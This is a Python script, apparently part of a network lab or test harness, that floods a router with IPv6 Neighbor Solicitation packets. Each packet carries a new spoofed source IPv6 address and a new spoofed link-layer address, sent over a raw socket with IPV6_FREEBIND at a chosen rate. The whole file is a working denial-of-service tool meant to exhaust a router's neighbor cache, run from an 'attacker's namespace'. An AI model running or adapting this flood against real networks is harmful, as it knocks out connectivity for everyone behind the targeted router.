"""RATE, SECONDS -> RATE solicitations a second for the router, each from a new address with a new lladdr.

Run by path, in the attacker's namespace.  Source: RFC 4861, 4.3; the kernel fills in the checksum.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

_FREEBIND = 78  # IPV6_FREEBIND, linux/in6.h: send from addresses that the host does not have
_SOLICITATION, _SOURCE_LLADDR = 135, 1


def send(rate: float, seconds: float) -> int:
    """Send *rate* solicitations a second, evenly spaced, for *seconds*; return how many were sent."""
    target = socket.inet_pton(socket.AF_INET6, "fe80::1")
    prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:64::")[:8]
    index = socket.if_nametoindex("eth0")
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sender:
        sender.setsockopt(socket.IPPROTO_IPV6, _FREEBIND, 1)
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        started, sent, lost = time.monotonic(), 0, 0
        while (elapsed_s := time.monotonic() - started) < seconds:
            if sent >= elapsed_s * rate:
                time.sleep(0.001)
                continue
            sent += 1
            source = prefix + b"\xba\xad" + sent.to_bytes(6, "big")
            lladdr = b"\x02\x66" + sent.to_bytes(4, "big")
            packet = struct.pack("!BBHI16sBB6s", _SOLICITATION, 0, 0, 0, target, _SOURCE_LLADDR, 1, lladdr)
            ancillary = (socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, struct.pack("16sI", source, index))
            try:
                sender.sendmsg([packet], [ancillary], 0, ("ff02::1:ff00:1", 0, 0, index))
            except OSError:
                lost += 1  # the attacker's kernel cannot keep up
        return sent - lost


if __name__ == "__main__":
    print(send(float(sys.argv[1]), float(sys.argv[2])))
